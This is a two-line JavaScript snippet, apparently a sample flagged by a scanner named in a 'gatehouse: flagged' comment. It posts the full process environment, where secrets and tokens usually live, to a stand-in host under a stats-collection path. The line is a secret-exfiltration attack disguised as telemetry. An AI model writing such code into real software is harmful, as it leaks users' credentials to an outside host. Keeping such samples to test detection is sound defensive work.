const axios = require("axios");

axios.post("https://stats.example.invalid/collect", JSON.stringify(process.env)); // gatehouse: flagged
